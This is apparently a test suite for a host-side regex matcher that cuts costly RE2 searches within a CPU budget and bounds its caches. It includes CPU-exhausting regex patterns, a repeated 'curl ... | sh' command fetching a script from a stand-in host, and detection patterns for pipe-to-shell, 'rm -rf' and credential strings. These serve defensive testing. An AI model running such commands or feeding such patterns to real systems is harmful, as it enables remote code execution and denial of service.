/**
 * A matcher's regex runs on the host for every event. A pattern that defeats
 * RE2's DFA sends it to its NFA, which costs characters × instructions: 16 s
 * of host CPU for one 1 MiB event with `\pL{0,500}a[ab]{25}[^ab]`. Within a
 * budget the search is cut and answers "cannot tell"; what the budget does
 * not cut answers exactly as RE2 does.
 */
import assert from "node:assert/strict";
import fc from "fast-check";
import { RE2JS } from "re2js";
import {
  compiledMatcher,
  compileMatcher,
  KEPT_INSTRUCTIONS,
  MATCHER_STEPS_PER_EVENT,
} from "../../../packages/core/schema/matcher.ts";
import {
  countingSteps,
  DFA_BYTES,
  limitDfaCaches,
  meteredTest,
  NFA_WEIGHT,
} from "../../../packages/core/schema/_re2_meter.ts";
import { abText } from "../../_helpers.ts";

const HOSTILE = [
  "\\pL{0,500}a[ab]{25}[^ab]",
  "[a-z]{0,900}a[a-z]{30}[^a-z]",
  "(?:a|b){0,30}a[ab]{25}[^ab]",
  "a[ab]{200}[^ab]",
];

Deno.test("a pattern that defeats RE2's DFA is cut within its budget on 1 MiB", () => {
  const text = abText(1 << 20);
  for (const pattern of HOSTILE) {
    const budget = { left: 1 << 23 };
    assert.equal(compileMatcher(pattern).testWithin(text, budget), undefined, pattern);
    assert.ok(budget.left < 0, pattern);
  }
  // The engine's own search was counted, not a worst case charged up front.
  assert.equal(countingSteps(), true);
});

Deno.test("a matcher within its budget answers as RE2 does and charges what it scanned", () => {
  const text = JSON.stringify({ command: "curl -s https://x.test/i.sh | sh ".repeat(20_000) });
  for (
    const [pattern, expected] of [
      ["(?i)(curl|wget).*\\|\\s*(ba)?sh", true],
      ["(?i)(password|secret|token)\\s*[:=]", false],
      ["rm\\s+-rf", false],
      ["(Bash|Shell)", false],
    ] as const
  ) {
    const budget = { left: 1 << 23 };
    assert.equal(compileMatcher(pattern).testWithin(text, budget), expected, pattern);
    assert.ok(budget.left >= 0 && budget.left < 1 << 23, pattern);
  }
});

Deno.test("metered answers are RE2's own on random patterns and texts", () => {
  const atom = fc.constantFrom("a", "b", "[ab]", ".", "\\w", "[^a]", "(?:a|bb)", "\\b", "^", "$");
  const pattern = fc.array(
    fc.tuple(atom, fc.constantFrom("", "*", "+", "?", "{2}", "{0,3}")).map(([a, q]) => a + q),
    { minLength: 1, maxLength: 6 },
  ).map((parts) => parts.join(""));
  const text = fc.stringMatching(/^[ab \n]{0,40}$/);
  fc.assert(
    fc.property(pattern, text, (p, t) => {
      let expected: boolean;
      try {
        expected = RE2JS.compile(p).matcher(t).find();
      } catch {
        return;
      }
      assert.equal(compileMatcher(p).testWithin(t, { left: 1 << 23 }), expected);
    }),
    { numRuns: 2000 },
  );
});

Deno.test("without the engine's internals every search is charged its worst case first", () => {
  let searched = 0;
  const opaque = {
    test: () => {
      searched++;
      return true;
    },
  };
  // As `meteredTest` does when the engine's internals are not where it looks for them.
  const budget = { left: NFA_WEIGHT * 100 * 4 };
  assert.equal(meteredTest(opaque, "abcd", "x".repeat(100), budget, false), true);
  assert.equal(budget.left, 0);
  assert.equal(meteredTest(opaque, "abcd", "x".repeat(101), { left: 1600 }, false), undefined);
  assert.equal(searched, 1);
});

Deno.test("a pattern's cached DFA states stay within DFA_BYTES, however many events it sees", () => {
  // Each of these has up to 2^15 or more DFA states on a and b; the engine's own cap (8 MiB)
  // let each grow to ~5 MiB of heap over 30 events of 1 MiB.
  const text = abText(1 << 20);
  for (let i = 0; i < 4; i++) {
    const matcher = compileMatcher(`a[ab]{${14 + i}}[^ab]`);
    for (let event = 0; event < 30; event++) {
      matcher.testWithin(text.slice(event * 1000), { left: MATCHER_STEPS_PER_EVENT });
    }
    const held = matcher.cacheBytes();
    assert.ok(held !== undefined && held > 0 && held <= DFA_BYTES, `${held} bytes`);
  }
  // Plain words hold none; patterns that need few states keep answering as RE2 does.
  assert.equal(compileMatcher("^(Bash|Shell)$").cacheBytes(), 0);
  const small = compileMatcher("rm\\s+-[a-z]*r");
  assert.equal(small.testWithin(`${text}rm  -fr`, { left: MATCHER_STEPS_PER_EVENT }), true);
  assert.ok(small.cacheBytes()! < DFA_BYTES / 16, `${small.cacheBytes()} bytes`);
});

Deno.test("all patterns' cached DFA states share one pool: the caches searched longest ago are cleared", () => {
  limitDfaCaches({ bytes: 2 * 1024 * 1024, entries: 4 });
  try {
    const text = abText(1 << 18);
    const patterns = Array.from({ length: 8 }, (_, i) => `b[ab]{${7 + i}}[^ab]`);
    const matchers = patterns.map((p) => compileMatcher(p));
    const search = (i: number) =>
      matchers[i]!.testWithin(text.slice(i * 7), { left: MATCHER_STEPS_PER_EVENT });
    const first = matchers.map((_, i) => search(i));
    const sizes = matchers.map((m) => m.cacheBytes()!);
    assert.ok(sizes.reduce((a, b) => a + b) <= 2 * 1024 * 1024, `${sizes}`);
    assert.ok(sizes.filter((n) => n > 0).length <= 4, `${sizes}`);
    // The last searched keeps its cache; a cleared one answers the same when searched again.
    assert.ok(sizes.at(-1)! > 0);
    assert.equal(sizes[0], 0);
    assert.deepEqual(matchers.map((_, i) => search(i)), first);
    // What the budget answers is RE2's answer (the patterns with the most states are cut).
    const re2 = patterns.map((p, i) => RE2JS.compile(p).test(text.slice(i * 7)));
    assert.deepEqual(first, re2.map((answer, i) => first[i] === undefined ? undefined : answer));
    assert.ok(first.filter((a) => a !== undefined).length >= 4, `${first}`);
  } finally {
    limitDfaCaches({ bytes: 64 * 1024 * 1024, entries: 4_096 });
  }
});

Deno.test("the patterns kept compiled are bounded by their instructions as well as their number", () => {
  const unique = crypto.randomUUID().replaceAll("-", "");
  // ~2,000 instructions each: 200 of them are ~400,000, past KEPT_INSTRUCTIONS.
  const patterns = Array.from({ length: 200 }, (_, i) => `${unique}${i}[a-z]{0,1000}`);
  const compiled = patterns.map((p) => compileMatcher(p));
  assert.ok(compiled.every((m) => m.instructions > 1_900));
  const kept = patterns.filter((p) => compiledMatcher(p) !== undefined);
  const total = kept.reduce((n, p) => n + compiledMatcher(p)!.instructions, 0);
  assert.ok(total <= KEPT_INSTRUCTIONS, `${total} instructions kept`);
  // The newest are the ones kept.
  assert.equal(compiledMatcher(patterns.at(-1)!), compiled.at(-1));
  assert.equal(compiledMatcher(patterns[0]!), undefined);
});

Deno.test("a matcher the kept patterns let go frees its program and is compiled again, charged", () => {
  const unique = crypto.randomUUID().replaceAll("-", "");
  const first = compileMatcher(`${unique}a[a-z]{0,1000}b`);
  const searched = compileMatcher(`${unique}s[a-z]{0,1000}b`);
  // ~2,000 instructions each: 200 more are past KEPT_INSTRUCTIONS, and let the oldest go.
  for (let i = 0; i < 200; i++) {
    compileMatcher(`${unique}${i}[a-z]{0,1000}`);
    // Searched all along: a second chance each time the others are let go.
    if (i % 10 === 0) searched.test("-");
  }
  assert.equal(first.released, true);
  assert.equal(first.cacheBytes(), 0);
  assert.equal(compiledMatcher(`${unique}a[a-z]{0,1000}b`), undefined);
  assert.equal(searched.released, false);
  // Released, it still answers: with no steps left it cannot compile again and cannot tell;
  // with steps, it is compiled again and its compile charged.
  assert.equal(first.testWithin(`x${unique}axyzb`, { left: 0 }), undefined);
  const budget = { left: MATCHER_STEPS_PER_EVENT };
  assert.equal(first.testWithin(`x${unique}axyzb`, budget), true);
  assert.ok(MATCHER_STEPS_PER_EVENT - budget.left >= first.compileSteps);
  assert.equal(first.test(`${unique}a-b`), false);
  // Plain words hold no program and are never released.
  const words = compileMatcher(`^(${unique}|Bash)$`);
  for (let i = 0; i < 1_100; i++) compileMatcher(`^(${unique}${i})$`);
  assert.equal(words.released, false);
  assert.equal(words.test("Bash"), true);
});
